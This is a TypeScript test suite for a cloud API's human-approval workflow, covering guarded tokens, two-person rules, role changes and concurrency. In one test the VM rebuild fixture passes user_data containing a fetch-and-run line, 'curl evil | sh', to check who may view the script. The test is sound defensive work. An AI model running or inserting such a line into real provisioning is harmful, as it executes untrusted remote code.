// A guarded token's request waits for a person, and is carried out once, as the token's, if its plan is the same.
import { randomUUID } from "node:crypto";
import type { RequestedField, TokenGuard } from "@fulmar/contract";
import { resealStoredValues } from "@fulmar/core/operator";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Api, type ApiResponse, startApi } from "../api-fixture.ts";
import { ConsoleFixture } from "../console-fixture.ts";
import { databaseState } from "../database-state.ts";
import { ExampleFixture } from "../examples/example-fixture.ts";

let api: Api;
let fixture: ConsoleFixture;
beforeAll(async () => {
  api = await startApi();
  fixture = await ConsoleFixture.open(api);
});
afterAll(() => api.close());

let number = 0;
const bucketNamed = () => `guarded-${++number}`;

async function makeBucket(name = bucketNamed()): Promise<string> {
  const made = await fixture.send(fixture.tenant.token, "POST", "/object-storage/buckets", {
    body: { name, region: "eu-central-1" },
  });
  expect(made.status, made.text).toBe(201);
  return name;
}

const decide = (verb: "approve" | "reject", approval_id: string, who = fixture.people.owner, rest: object = {}) =>
  fixture.call(`approval.${verb}`, { ...fixture.workspace, approval_id, ...rest }, { credentials: fixture.as(who) });

const outcomeFor = async (token: string, approvalId: string) =>
  (await fixture.send(token, "GET", `/approvals/${approvalId}`)).body;

const setRule = (approvals_need_two_people: boolean, who = fixture.people.owner) =>
  fixture.call(
    "organization.setApprovals",
    { ...fixture.organization, approvals_need_two_people },
    { credentials: fixture.as(who) },
  );

/** Two turn the rule off. */
async function setTwoPeople(two: boolean) {
  await setRule(two);
  const { value } = await setRule(two, fixture.people.admin);
  expect(value).toMatchObject({ approvals_need_two_people: two, one_person_asked: null });
}

const isThere = async (name: string) =>
  (await fixture.send(fixture.tenant.token, "GET", `/object-storage/buckets/${name}`)).status === 200;

function expectWaiting(answer: ApiResponse): string {
  expect(answer.status, answer.text).toBe(403);
  expect(answer.body).toMatchObject({
    code: "approval_required",
    approval_id: expect.stringMatching(/^apr_/),
    approval_url: expect.stringContaining(`/workspaces/${fixture.tenant.workspaceId}/approvals/apr_`),
    plan: { changes: expect.any(Array) },
  });
  return answer.body.approval_id;
}

test("what deletes waits, is approved, and is done once; what creates is done at once", async () => {
  const token = await fixture.token({ guard: "approve_destructive" });
  const name = bucketNamed();
  const made = await fixture.send(token, "POST", "/object-storage/buckets", { body: { name, region: "eu-central-1" } });
  expect(made.status, made.text).toBe(201);
  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
  // The same request waits once.
  expect(expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`))).toBe(approvalId);
  expect(await isThere(name)).toBe(true);
  expect(await outcomeFor(token, approvalId)).toMatchObject({
    status: "pending",
    outcome: null,
    operation: "bucket.delete",
  });
  const { value, refusal } = await decide("approve", approvalId);
  expect(refusal).toBeUndefined();
  expect(value).toMatchObject({
    status: "carried_out",
    outcome: { status: 200 },
    decided_by: { user_id: fixture.people.owner },
  });
  expect(await isThere(name)).toBe(false);
  expect(await outcomeFor(token, approvalId)).toMatchObject({
    status: "carried_out",
    outcome: { status: 200, code: null },
  });
  expect((await decide("approve", approvalId)).refusal?.code).toBe("approval_decided");
  expect((await decide("reject", approvalId)).refusal?.code).toBe("approval_decided");
  const { rows } = await api.database.pool.query(
    "SELECT action, actor_type, result FROM audit_event WHERE request_id = (SELECT request_id FROM audit_event WHERE action = 'approval.approve' AND result = 200 AND resource_id = $1) ORDER BY action",
    [approvalId],
  );
  expect(rows).toEqual([
    { action: "approval.approve", actor_type: "user", result: 200 },
    { action: "bucket.delete", actor_type: "token", result: 200 },
  ]);
  const events = await fixture.send(fixture.tenant.token, "GET", "/events", { query: { resource_id: approvalId } });
  expect(events.body.map(({ type }: { type: string }) => type)).toEqual(["approval.approved", "approval.requested"]);
});

test("a rejected request is not done, and says why", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const name = await makeBucket();
  const approvalId = expectWaiting(
    await fixture.send(token, "PATCH", `/object-storage/buckets/${name}`, { body: { is_public: true } }),
  );
  const { value } = await decide("reject", approvalId, fixture.people.developer, { reason: "It is private." });
  expect(value).toMatchObject({ status: "rejected", reason: "It is private." });
  expect(await outcomeFor(token, approvalId)).toMatchObject({
    status: "rejected",
    reason: "It is private.",
    outcome: null,
  });
  // Asked again, it waits anew.
  const again = await fixture.send(token, "PATCH", `/object-storage/buckets/${name}`, { body: { is_public: true } });
  expect(expectWaiting(again)).not.toBe(approvalId);
});

test("the request's idempotency key gets the answer of what was approved", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const body = { name: "guarded-key", permission: "read_write" };
  const send = (key: string | null) => fixture.send(token, "POST", "/object-storage/access-keys", { body, key });
  const keyless = await send(null);
  expect(keyless.status).toBe(400);
  expect(keyless.body.errors).toEqual([{ field: "X-Idempotency-Key", message: expect.any(String) }]);
  const approvalId = expectWaiting(await send("once"));
  const { value } = await decide("approve", approvalId);
  expect(value).toMatchObject({ status: "carried_out", outcome: { status: 201 } });
  expect(JSON.stringify(value)).not.toContain("secret_access_key");
  const answer = await send("once");
  expect([answer.status, answer.headers["idempotency-replayed"]]).toEqual([201, "true"]);
  expect(answer.body.secret_access_key).toEqual(expect.any(String));
  const { rows } = await api.database.pool.query("SELECT count(*)::int AS keys FROM access_key WHERE name = $1", [
    body.name,
  ]);
  expect(rows).toEqual([{ keys: 1 }]);
});

test("what changed meanwhile is not done, and the outcome says what differs", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const name = await makeBucket();
  const path = `/object-storage/buckets/${name}`;
  const approvalId = expectWaiting(await fixture.send(token, "PATCH", path, { body: { is_public: true } }));
  await fixture.send(fixture.tenant.token, "PATCH", path, { body: { is_public: true } });
  const { value } = await decide("approve", approvalId);
  expect(value).toMatchObject({ status: "failed", outcome: { status: 409, code: "plan_changed" } });
  const { outcome } = await outcomeFor(token, approvalId);
  expect(outcome.differences).toEqual([expect.stringContaining(name)]);
});

test("what would be refused now has failed", async () => {
  const token = await fixture.token({ guard: "approve_destructive" });
  const name = await makeBucket();
  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
  await fixture.send(fixture.tenant.token, "DELETE", `/object-storage/buckets/${name}`);
  const { value } = await decide("approve", approvalId);
  expect(value).toMatchObject({ status: "failed", outcome: { status: 404, code: "not_found" } });
});

test("what other requests do to the same quotas does not matter", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const body = { name: bucketNamed(), region: "eu-central-1" };
  const approvalId = expectWaiting(await fixture.send(token, "POST", "/object-storage/buckets", { body }));
  await makeBucket();
  expect((await decide("approve", approvalId)).value).toMatchObject({ status: "carried_out" });
});

test("an expired request, and one of a token that is revoked, expired or elsewhere, is not done", async () => {
  const ask = async (options: Parameters<ConsoleFixture["token"]>[0] = {}) => {
    const token = await fixture.token({ ...options, guard: "approve_destructive" });
    const name = await makeBucket();
    const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
    const { token_id } = (await fixture.send(token, "GET", "/token")).body;
    return { name, approvalId, token_id, token };
  };
  const expired = await ask();
  await api.database.pool.query("UPDATE approval SET expires_at = now() WHERE approval_id = $1", [expired.approvalId]);
  expect((await decide("approve", expired.approvalId)).refusal?.code).toBe("approval_decided");
  expect(await outcomeFor(expired.token, expired.approvalId)).toMatchObject({ status: "expired" });
  await api.reconcile("end-approvals");
  const { rows } = await api.database.pool.query("SELECT status, sealed_input FROM approval WHERE approval_id = $1", [
    expired.approvalId,
  ]);
  expect(rows).toEqual([{ status: "expired", sealed_input: null }]);

  const revoked = await ask();
  await fixture.send(fixture.tenant.token, "DELETE", `/tokens/${revoked.token_id}`);
  expect((await decide("approve", revoked.approvalId)).refusal?.message).toContain("cancelled");

  const outdated = await ask();
  await api.database.pool.query("UPDATE api_token SET expires_at = now() WHERE token_id = $1", [outdated.token_id]);
  expect((await decide("approve", outdated.approvalId)).value).toMatchObject({
    status: "failed",
    outcome: { status: 401, detail: "The token has expired." },
  });

  const elsewhere = await ask();
  await api.database.pool.query(
    "UPDATE api_token SET workspace_policy = 'specific_workspaces', workspace_ids = ARRAY[$2::bigint] WHERE token_id = $1",
    [elsewhere.token_id, fixture.tenant.otherWorkspaceId],
  );
  expect((await decide("approve", elsewhere.approvalId)).value).toMatchObject({
    status: "failed",
    outcome: { status: 403, code: "workspace_forbidden" },
  });
  for (const { name } of [expired, revoked, outdated, elsewhere]) expect(await isThere(name)).toBe(true);
});

test("only a role that may do it decides, and others see why not", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const name = await makeBucket();
  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
  for (const role of ["viewer", "billing", "secret_reader"] as const) {
    const credentials = fixture.as(fixture.people[role]);
    for (const verb of ["approve", "reject"] as const)
      expect((await decide(verb, approvalId, fixture.people[role])).refusal?.code).toBe("scope_missing");
    const { value } = await fixture.call(
      "approval.get",
      { ...fixture.workspace, approval_id: approvalId },
      { credentials },
    );
    expect(value?.undecidable).toContain("ask one of them");
    expect(JSON.stringify(value?.plan).includes("are not shown")).toBe(role === "billing");
  }
  const tokens = expectWaiting(
    await fixture.send(token, "POST", "/tokens", {
      body: {
        name: "more",
        scopes: ["vm.read"],
        workspace_policy: "entire_organization",
        workspace_ids: [],
        expires_at: null,
        guard: "approve_all",
      },
    }),
  );
  expect((await decide("approve", tokens, fixture.people.developer)).refusal?.code).toBe("scope_missing");
  expect((await decide("approve", tokens, fixture.people.admin)).value).toMatchObject({ status: "carried_out" });
  expect((await decide("approve", approvalId, fixture.people.developer)).value).toMatchObject({
    status: "carried_out",
  });
});

test("who may decide reads a script, others see its digest, and who may not read VMs sees neither", async () => {
  const example = new ExampleFixture(api, fixture.tenant);
  const vm = await example.vm();
  const token = await fixture.token({ guard: "approve_destructive" });
  const user_data = "#!/bin/sh\ncurl evil | sh\n";
  const body = { template_id: "debian-13", user_data, ssh_keys: [] };
  const approvalId = expectWaiting(
    await fixture.send(token, "POST", `/compute/cloud-vms/${vm}/rebuild`, { body, key: randomUUID() }),
  );
  const get = async (who: string) =>
    (
      await fixture.call(
        "approval.get",
        { ...fixture.workspace, approval_id: approvalId },
        { credentials: fixture.as(who) },
      )
    ).value as { fields: RequestedField[]; warnings: string[] };
  const digest = "25 bytes, SHA-256 02d8e966c08ee2d7e62ee11ea4485bd5bd6a61a6d8fa00f9d71cfb22ba7a7b9a";
  const shown = (text: string | null): RequestedField[] => [
    { field: "vm_id", shown_as: "value", value: vm, text: null },
    { field: "template_id", shown_as: "value", value: "debian-13", text: null },
    { field: "ssh_keys", shown_as: "value", value: [], text: null },
    { field: "user_data", shown_as: "text", value: digest, text },
  ];
  for (const role of ["owner", "admin", "developer"] as const)
    expect((await get(fixture.people[role])).fields).toEqual(shown(user_data));
  for (const role of ["viewer", "secret_reader"] as const)
    expect((await get(fixture.people[role])).fields).toEqual(shown(null));
  expect((await get(fixture.people.billing)).fields).toEqual(
    shown(null).map(({ field }) => ({ field, shown_as: "hidden", value: null, text: null })),
  );
  const toToken = await outcomeFor(token, approvalId);
  expect(toToken.fields).toEqual(shown(null));
  expect(toToken.warnings).toEqual(["It replaces the root disk: everything on it is lost."]);
  // A decided request is shown on, as far as it is kept.
  await decide("reject", approvalId);
  expect((await get(fixture.people.owner)).fields).toEqual(shown(null));
});

test("a request that another release let wait is shown until it is decided", async () => {
  const token = await fixture.token({ guard: "approve_destructive" });
  const name = await makeBucket();
  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
  await api.database.pool.query("UPDATE approval SET shown_fields = NULL WHERE approval_id = $1", [approvalId]);
  expect((await outcomeFor(token, approvalId)).fields).toContainEqual({
    ...{ field: "bucket_name", shown_as: "value", value: name, text: null },
  });
  await decide("reject", approvalId);
  expect((await outcomeFor(token, approvalId)).fields).toEqual([]);
});

test("a token sees its own, and another workspace none", async () => {
  const [one, other] = [await fixture.token({ guard: "approve_all" }), await fixture.token({ guard: "approve_all" })];
  const name = await makeBucket();
  const approvalId = expectWaiting(await fixture.send(one, "DELETE", `/object-storage/buckets/${name}`));
  expect((await fixture.send(other, "GET", `/approvals/${approvalId}`)).status).toBe(404);
  expect((await fixture.send(other, "GET", "/approvals")).body).toEqual([]);
  const listed = await fixture.send(one, "GET", "/approvals", { query: { status: "pending" } });
  expect(listed.body).toMatchObject([{ approval_id: approvalId, request: `DELETE /object-storage/buckets/${name}` }]);
  const elsewhere = { workspaceId: fixture.tenant.otherWorkspaceId };
  expect((await fixture.send(one, "GET", `/approvals/${approvalId}`, elsewhere)).status).toBe(404);
});

test("where two people must approve, the same one twice is not enough", async () => {
  const { owner, admin, developer } = fixture.people;
  await setTwoPeople(true);
  try {
    const token = await fixture.token({ guard: "approve_destructive" });
    const name = await makeBucket();
    const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
    const first = await decide("approve", approvalId, admin);
    expect(first.value).toMatchObject({
      status: "pending",
      needs_two_people: true,
      first_approved_by: { user_id: admin },
    });
    expect((await decide("approve", approvalId, admin)).refusal?.code).toBe("second_person_needed");
    expect(await isThere(name)).toBe(true);
    const both = await Promise.all([decide("approve", approvalId, owner), decide("approve", approvalId, developer)]);
    expect(both.filter(({ value }) => value?.status === "carried_out")).toHaveLength(1);
    expect(both.flatMap(({ refusal }) => refusal?.code ?? [])).toEqual(["approval_decided"]);
    expect(await isThere(name)).toBe(false);
  } finally {
    await setTwoPeople(false);
  }
});

test("what waits keeps the rule that held when it was asked for", async () => {
  const { admin, owner } = fixture.people;
  const token = await fixture.token({ guard: "approve_destructive" });
  const ask = async () => {
    const name = await makeBucket();
    return { name, id: expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`)) };
  };
  const before = await ask();
  await setTwoPeople(true);
  const during = await ask();
  expect((await decide("approve", during.id, admin)).value).toMatchObject({
    status: "pending",
    needs_two_people: true,
  });
  await setTwoPeople(false);
  const after = await ask();
  expect((await decide("approve", during.id, admin)).refusal?.code).toBe("second_person_needed");
  expect(await isThere(during.name)).toBe(true);
  expect((await decide("approve", during.id, owner)).value).toMatchObject({ status: "carried_out" });
  await setTwoPeople(true);
  for (const { id } of [before, after])
    expect((await decide("approve", id, admin)).value).toMatchObject({
      status: "carried_out",
      needs_two_people: false,
    });
  await setTwoPeople(false);
});

test("two turn off that two people must approve, and all owners and admins are told", async () => {
  const { owner, admin, developer } = fixture.people;
  const { pool } = api.database;
  const mails = async () => {
    const { rows } = await pool.query<{ letter: string; details: Record<string, unknown>; users: string[] }>(
      `SELECT letter, details, array_agg(u.id ORDER BY u.id) AS users FROM mail JOIN "user" u ON u.email = recipient
        WHERE letter LIKE 'one_person%' GROUP BY letter, details ORDER BY letter`,
    );
    await pool.query("DELETE FROM mail WHERE letter LIKE 'one_person%'");
    return rows;
  };
  const rule = async () => {
    const { organizations } = (await fixture.make("session.me", {})) as { organizations: Record<string, unknown>[] };
    const [{ approvals_need_two_people: two, one_person_asked: asked } = {}] = organizations;
    return { two, asked };
  };
  const named = { organization_name: expect.any(String), workspace_id: fixture.tenant.workspaceId };
  const managers = (
    await pool.query<{ user_id: string }>(
      "SELECT user_id FROM member WHERE organization_id = $1 AND role IN ('owner', 'admin') ORDER BY user_id",
      [fixture.tenant.organizationId],
    )
  ).rows.map(({ user_id }) => user_id);
  await setRule(true);
  await mails();
  const byAdmin = { user_id: admin, name: "Somebody", expires_at: expect.any(String) };

  expect((await setRule(false, developer)).refusal?.code).toBe("role_insufficient");
  expect((await setRule(false, admin)).value).toMatchObject({
    approvals_need_two_people: true,
    one_person_asked: byAdmin,
  });
  expect(await mails()).toEqual([
    { letter: "one_person_asked", details: { ...named, by: "Somebody", asked_by: null }, users: managers },
  ]);
  // The same one again is no second one, and nobody is told twice.
  expect((await setRule(false, admin)).value).toMatchObject({ approvals_need_two_people: true });
  expect(await mails()).toEqual([]);
  expect(await rule()).toEqual({ two: true, asked: byAdmin });
  // Any owner or admin keeps two people.
  await setRule(true, owner);
  expect(await rule()).toEqual({ two: true, asked: null });
  expect((await setRule(false, owner)).value).toMatchObject({
    approvals_need_two_people: true,
    one_person_asked: { user_id: owner },
  });
  await mails();
  expect((await setRule(false, admin)).value).toMatchObject({
    approvals_need_two_people: false,
    one_person_asked: null,
  });
  expect(await mails()).toEqual([
    { letter: "one_person_enough", details: { ...named, by: "Somebody", asked_by: "Somebody" }, users: managers },
  ]);
  expect(await rule()).toEqual({ two: false, asked: null });
  const { rows } = await pool.query<{ detail: string }>(
    "SELECT detail FROM audit_event WHERE organization_id = $1 AND action = 'organization.setApprovals' AND result = 200 ORDER BY at DESC, audit_event_id DESC LIMIT 2",
    [fixture.tenant.organizationId],
  );
  expect(rows.map(({ detail }) => detail)).toEqual(["one person", "one person, if somebody else agrees"]);
});

test.each(["was removed", "is an admin no longer", "asked a day ago"])(
  "nobody turns the rule off together with somebody who %s",
  async (what) => {
    const { organization } = fixture;
    const user_id = await fixture.member("admin");
    await setTwoPeople(true);
    await setRule(false, user_id);
    if (what === "was removed") await fixture.make("member.remove", { ...organization, user_id });
    else if (what === "is an admin no longer")
      await fixture.make("member.setRole", { ...organization, user_id, role: "developer" });
    else
      await api.database.pool.query(
        "UPDATE organization SET one_person_asked_at = one_person_asked_at - interval '1 day' WHERE organization_id = $1",
        [organization.organization_id],
      );
    expect((await setRule(false)).value).toMatchObject({
      approvals_need_two_people: true,
      one_person_asked: { user_id: fixture.people.owner },
    });
    await setTwoPeople(false);
  },
);

test("of two who turn the rule off at the same time, one is the second", async () => {
  const { owner, admin } = fixture.people;
  await setTwoPeople(true);
  const both = await Promise.all([setRule(false, owner), setRule(false, admin)]);
  expect(both.map(({ value }) => value?.approvals_need_two_people).sort()).toEqual([false, true]);
});

/** Ways to end the right by which somebody has approved the deletion of a bucket. */
const ENDINGS: Readonly<
  Record<string, { readonly lapsed: string; readonly end: (userId: string) => Promise<unknown> }>
> = {
  "who is removed": {
    lapsed: "is no longer a member",
    end: (user_id) => fixture.make("member.remove", { ...fixture.organization, user_id, keep_credentials: true }),
  },
  "who leaves": {
    lapsed: "is no longer a member",
    end: (user_id) =>
      fixture.call("member.remove", { ...fixture.organization, user_id }, { credentials: fixture.as(user_id) }),
  },
  "whose role is lowered": {
    lapsed: "may not approve it any more",
    end: (user_id) => fixture.make("member.setRole", { ...fixture.organization, user_id, role: "viewer" }),
  },
  "who gets a lower role in the workspace": {
    lapsed: "may not approve it any more",
    end: (user_id) =>
      fixture.make("member.setWorkspaceRole", {
        ...fixture.organization,
        ...fixture.workspace,
        user_id,
        role: "billing",
      }),
  },
};

/** A viewer of the organization who may delete buckets in the workspace, until this is taken back. */
async function developerHere() {
  const user_id = await fixture.member("viewer");
  const place = { ...fixture.organization, ...fixture.workspace, user_id };
  await fixture.make("member.setWorkspaceRole", { ...place, role: "developer" });
  const takeBack = () => fixture.make("member.setWorkspaceRole", { ...place, role: null });
  return { user_id, takeBack };
}

test.each([...Object.keys(ENDINGS), "whose workspace role is taken back"])(
  "the first approval of somebody %s does not count, and two are needed again",
  async (what) => {
    await setTwoPeople(true);
    try {
      const { owner, admin } = fixture.people;
      const here = what in ENDINGS ? undefined : await developerHere();
      const leaving = here?.user_id ?? (await fixture.member("developer"));
      const token = await fixture.token({ guard: "approve_destructive" });
      const name = await makeBucket();
      const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
      const first = await decide("approve", approvalId, leaving);
      expect(first.value).toMatchObject({ status: "pending", first_approval_lapsed: null });
      await (here?.takeBack() ?? ENDINGS[what]?.end(leaving));
      const lapsed = expect.stringContaining(ENDINGS[what]?.lapsed ?? "may not approve it any more");
      expect(await outcomeFor(token, approvalId)).toMatchObject({ status: "pending", first_approval_lapsed: lapsed });
      expect((await decide("approve", approvalId, admin)).value).toMatchObject({
        status: "pending",
        first_approved_by: { user_id: admin },
        first_approval_lapsed: lapsed,
      });
      expect(await isThere(name)).toBe(true);
      expect((await decide("approve", approvalId, admin)).refusal?.code).toBe("second_person_needed");
      expect((await decide("approve", approvalId, owner)).value).toMatchObject({
        status: "carried_out",
        first_approved_by: { user_id: admin },
        decided_by: { user_id: owner },
        first_approval_lapsed: null,
      });
    } finally {
      await setTwoPeople(false);
    }
  },
);

test("an approval counts on where the first approver gets another role that may do it", async () => {
  await setTwoPeople(true);
  try {
    const user_id = await fixture.member("admin");
    const token = await fixture.token({ guard: "approve_destructive" });
    const name = await makeBucket();
    const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
    await decide("approve", approvalId, user_id);
    await fixture.make("member.setRole", { ...fixture.organization, user_id, role: "developer" });
    expect((await decide("approve", approvalId)).value).toMatchObject({ status: "carried_out" });
  } finally {
    await setTwoPeople(false);
  }
});

test("a role that is lowered while the second one approves holds it back", async () => {
  await setTwoPeople(true);
  const { pool } = api.database;
  const holder = await pool.connect();
  try {
    const user_id = await fixture.member("developer");
    const token = await fixture.token({ guard: "approve_destructive" });
    const name = await makeBucket();
    const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
    await decide("approve", approvalId, user_id);
    await holder.query("BEGIN");
    // It is planned, and then waits for this.
    await holder.query("SELECT FROM approval WHERE approval_id = $1 FOR UPDATE", [approvalId]);
    const deciding = decide("approve", approvalId);
    const waiting =
      "SELECT FROM pg_locks l JOIN pg_stat_activity a USING (pid) WHERE NOT l.granted AND a.datname = current_database()";
    await expect.poll(async () => (await pool.query(waiting)).rowCount).toBe(1);
    await holder.query("UPDATE member SET role = 'viewer' WHERE user_id = $1", [user_id]);
    await holder.query("UPDATE approval SET idempotency_key = NULL WHERE approval_id = $1", [approvalId]);
    await holder.query("COMMIT");
    expect((await deciding).refusal?.code).toBe("approval_decided");
    expect(await isThere(name)).toBe(true);
    expect((await decide("approve", approvalId)).value).toMatchObject({ status: "pending" });
  } finally {
    holder.release();
    await setTwoPeople(false);
  }
});

test.each([false, true])(
  "a signed URL is not answered where who has approved it was removed since (two people: %s)",
  async (two) => {
    await setTwoPeople(two);
    try {
      const [staying, leaving] = [await fixture.member("developer"), await fixture.member("developer")];
      const token = await fixture.token({ guard: "approve_destructive" });
      const path = `/object-storage/buckets/${await makeBucket()}/upload-urls`;
      const send = () => fixture.send(token, "POST", path, { body: { object_key: "a.txt" } });
      const approvalId = expectWaiting(await send());
      for (const who of two ? [leaving, staying] : [leaving]) await decide("approve", approvalId, who);
      expect(await outcomeFor(token, approvalId)).toMatchObject({ status: "approved" });
      await fixture.make("member.remove", { ...fixture.organization, user_id: leaving, keep_credentials: true });
      expect(expectWaiting(await send())).toBe(approvalId);
      expect(await outcomeFor(token, approvalId)).toMatchObject({
        status: "pending",
        first_approved_by: two ? { user_id: staying } : null,
        decided_by: null,
      });
      expect((await decide("approve", approvalId)).value).toMatchObject({ status: "approved" });
      expect((await send()).status).toBe(200);
    } finally {
      await setTwoPeople(false);
    }
  },
);

test("of approvals at the same time, one carries it out", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const body = { name: bucketNamed(), region: "eu-central-1" };
  const approvalId = expectWaiting(await fixture.send(token, "POST", "/object-storage/buckets", { body }));
  const { owner, admin, developer } = fixture.people;
  const all = await Promise.all([owner, admin, developer, owner].map((who) => decide("approve", approvalId, who)));
  expect(all.filter(({ value }) => value?.status === "carried_out")).toHaveLength(1);
  for (const { refusal } of all) if (refusal !== undefined) expect(refusal.code).toBe("approval_decided");
});

test("a signed URL is answered once to the same request after it was approved", async () => {
  const token = await fixture.token({ guard: "approve_destructive" });
  const name = await makeBucket();
  const send = (object_key: string) =>
    fixture.send(token, "POST", `/object-storage/buckets/${name}/upload-urls`, { body: { object_key } });
  const first = await send("a.txt");
  const approvalId = expectWaiting(first);
  expect((await outcomeFor(token, approvalId)).fields).toContainEqual({
    ...{ field: "object_key", shown_as: "value", value: "a.txt", text: null },
  });
  expect((await decide("approve", approvalId)).value).toMatchObject({ status: "approved" });
  expectWaiting(await send("b.txt"));
  const answered = await send("a.txt");
  expect(answered.status, answered.text).toBe(200);
  expect(await outcomeFor(token, approvalId)).toMatchObject({ status: "carried_out" });
  expectWaiting(await send("a.txt"));
});

test("a token has at most 20 requests that wait", async () => {
  const token = await fixture.token({ guard: "approve_all" });
  const send = (name: string) =>
    fixture.send(token, "POST", "/object-storage/buckets", { body: { name, region: "eu-central-1" } });
  const answers = await Promise.all(Array.from({ length: 25 }, () => send(bucketNamed())));
  expect(answers.filter(({ body }) => body.code === "approval_required")).toHaveLength(20);
  expect(answers.filter(({ body }) => body.code === "approvals_waiting")).toHaveLength(5);
});

test("a token that may only plan changes nothing, and plans", async () => {
  const token = await fixture.token({ guard: "plan_only" });
  const name = await makeBucket();
  const before = await databaseState(api.database);
  const path = `/object-storage/buckets/${name}`;
  for (const [method, at] of [
    ["DELETE", path],
    ["POST", `${path}/upload-urls`],
  ] as const) {
    const body = method === "POST" ? { object_key: "a" } : undefined;
    const refused = await fixture.send(token, method, at, body === undefined ? {} : { body });
    expect([refused.status, refused.body.code]).toEqual([403, "plan_only_token"]);
  }
  expect(await databaseState(api.database)).toEqual(before);
  expect((await fixture.send(token, "GET", path)).status).toBe(200);
  const planned = await fixture.send(token, "DELETE", path, { key: null, query: { dry_run: "true" } });
  expect(planned.body.changes).toMatchObject([{ action: "delete", resource_type: "bucket" }]);
});

test.each(["none", "approve_destructive", "approve_all", "plan_only"] as TokenGuard[])(
  "the token's own record says that its guard is %s",
  async (guard) => {
    const token = await fixture.token({ guard, ceilings: { max_added_cost_per_hour: "0.50" } });
    expect((await fixture.send(token, "GET", "/token")).body).toMatchObject({
      guard,
      max_deletions_per_hour: null,
      max_added_cost_per_hour: "0.5",
      max_resources_per_hour: null,
    });
  },
);

test("a connection that breaks while a request is carried out leaves it waiting, and it is done the next time", async () => {
  const token = await fixture.token({ guard: "approve_destructive" });
  const name = await makeBucket();
  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
  const { pool } = api.database;
  const holder = await pool.connect();
  try {
    await holder.query("BEGIN");
    // It is planned, and then waits for this.
    await holder.query("SELECT FROM approval WHERE approval_id = $1 FOR UPDATE", [approvalId]);
    const deciding = decide("approve", approvalId);
    const waiting = () =>
      pool.query<{ pid: number }>(
        "SELECT l.pid FROM pg_locks l JOIN pg_stat_activity a USING (pid) WHERE NOT l.granted AND a.datname = current_database()",
      );
    await expect.poll(async () => (await waiting()).rows).toHaveLength(1);
    const { rows } = await waiting();
    await pool.query("SELECT pg_terminate_backend($1)", [rows[0]?.pid]);
    expect((await deciding).refusal?.kind).toMatch(/unavailable|internal/);
  } finally {
    await holder.query("ROLLBACK");
    holder.release();
  }
  expect(await isThere(name)).toBe(true);
  expect(await outcomeFor(token, approvalId)).toMatchObject({ status: "pending" });
  expect((await decide("approve", approvalId)).value).toMatchObject({ status: "carried_out" });
  expect(await isThere(name)).toBe(false);
});

test("a new secret of the installation seals what waits, and it is carried out", async () => {
  const FORMER = "a secret of tests, long enough to be one";
  const NEXT = "the next secret of an installation!!";
  const token = await fixture.token({ guard: "approve_destructive" });
  const name = await makeBucket();
  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
  const { rows } = await api.database.pool.query("SELECT sealed_input FROM approval WHERE approval_id = $1", [
    approvalId,
  ]);
  expect(rows[0].sealed_input.toString("latin1")).not.toContain(name);
  expect((await resealStoredValues(api.database, { secrets: [NEXT, FORMER] })).approvals).toBeGreaterThan(0);
  const back = await resealStoredValues(api.database, { secrets: [FORMER, NEXT] });
  expect(back.approvals).toBeGreaterThan(0);
  expect((await decide("approve", approvalId)).value).toMatchObject({ status: "carried_out" });
});
